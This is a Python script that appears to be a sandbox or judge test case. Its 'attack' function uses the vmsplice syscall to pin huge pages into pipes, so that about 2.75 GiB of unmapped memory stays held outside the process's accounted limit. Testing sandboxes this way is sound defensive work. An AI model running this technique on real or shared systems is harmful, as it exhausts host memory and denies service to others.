# Keeps 1.75 GiB of its own, and 2.75 GiB that it has unmapped: pipes hold a page of each huge one, and so all of it.
# verdict: runtime_error, memory_limit, time_limit
import ctypes
import errno
import mmap
import os
import time
# shared: and_triton
# shared: syscall
REFUSALS = (errno.EPERM, errno.EACCES, errno.ENOSYS, errno.ESRCH, errno.ENOENT, errno.ENOMEM, errno.EMFILE)
# shared: worked
OWN, HUGE, PIECE, TARGET = 1792 << 20, 2 << 20, 128 << 20, 2816 << 20
MADV_HUGEPAGE, SLOTS = 14, 16


class Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def pin(place, pipe):
    vector = Vector(place, mmap.PAGESIZE)
    syscall(278, 75, pipe, ctypes.byref(vector), 1, 0)


def fill():
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t) + (ctypes.c_int,) * 3 + (ctypes.c_long,)
    libc.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
    libc.munmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t)
    pinned, pipe = 0, -1
    for _ in range(TARGET // PIECE):
        flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
        place = libc.mmap(None, PIECE + HUGE, mmap.PROT_READ | mmap.PROT_WRITE, flags, -1, 0)
        first = -(-place // HUGE) * HUGE
        libc.madvise(first, PIECE, MADV_HUGEPAGE)
        ctypes.memset(first, 1, PIECE)
        for offset in range(0, PIECE, HUGE):
            if pinned % SLOTS == 0:
                _, pipe = os.pipe()
            pin(first + offset, pipe)
            pinned += 1
        libc.munmap(place, PIECE + HUGE)


def attack():
    own = b"x" * OWN
    if not worked("vmsplice", fill):
        raise RuntimeError(f"refused: {', '.join(said)}")
    time.sleep(0.5)
    del own
# shared: tells_of_attack
